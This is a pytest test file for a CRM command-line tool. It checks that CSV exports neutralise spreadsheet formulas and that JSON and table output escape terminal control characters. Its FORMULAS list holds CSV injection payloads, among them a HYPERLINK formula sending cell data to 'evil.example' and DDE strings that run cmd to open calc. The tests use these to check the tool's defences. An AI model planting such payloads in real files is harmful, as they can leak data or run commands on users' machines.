"""CRM text in `queue`, `sla` and `report` output: CSV never carries a formula a spreadsheet runs,
JSON and tables never carry a byte a terminal acts on."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from leadtui.cli import main
from tests.conftest import NOW
from tests.tui.test_hostile_terminal import unsafe_in

AT = ["--now", NOW.isoformat()]
# OWASP's CSV injection examples, and the ones of issue 12.
FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_dir(workspace_dir: Path) -> Path:
    with sqlite3.connect(workspace_dir / "leadtui.db") as db:
        ids = [row[0] for row in db.execute("SELECT id FROM lead ORDER BY id")]
        for n, lead_id in enumerate(ids):
            formula = FORMULAS[n % len(FORMULAS)]
            db.execute(
                "UPDATE lead SET name = ?, company = ?, source = ? WHERE id = ?",
                (formula, formula + "\x9b31m\u202e", FORMULAS[(n + 1) % len(FORMULAS)], lead_id),
            )
    return workspace_dir


def is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "argv",
    [
        ("queue",),
        ("sla", "--team"),
        ("report", "--by", "source"),
    ],
)
def test_csv_never_starts_a_cell_with_a_formula(
    hostile_dir: Path, capsys: pytest.CaptureFixture[str], argv: tuple[str, ...]
) -> None:
    assert main([*AT, *argv, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) > 1, "some rows to check"
    texts = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'") for cell in texts), "the hostile text is there"
    for cell in texts:
        assert not cell.startswith(START) or is_number(cell), f"a formula got through: {cell!r}"


@pytest.mark.parametrize("fmt", ["json", "table"])
def test_json_and_tables_carry_no_control_characters(
    hostile_dir: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    assert main([*AT, "queue", "--format", fmt]) == 0
    out = capsys.readouterr().out
    assert not unsafe_in(out.replace("\n", "")), "raw control characters in the output"
    if fmt == "json":
        rows = json.loads(out)
        assert any("\x9b" in row["company"] for row in rows), "JSON keeps the data, escaped"


def test_json_escapes_delete_in_an_otherwise_plain_ascii_listing(
    workspace_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # DEL is the one ASCII character a terminal may act on: an all-ASCII listing is not a safe one.
    with sqlite3.connect(workspace_dir / "leadtui.db") as db:
        db.execute("UPDATE lead SET name = 'Ann' || char(127) || 'Lee', company = 'Acme'")
        db.execute("UPDATE lead SET source = 'web', email = 'a@b.example', phone = ''")
    assert main([*AT, "queue", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert "\x7f" not in out
    assert "Ann\\u007fLee" in out
    assert all(row["name"] == "Ann\x7fLee" for row in json.loads(out))
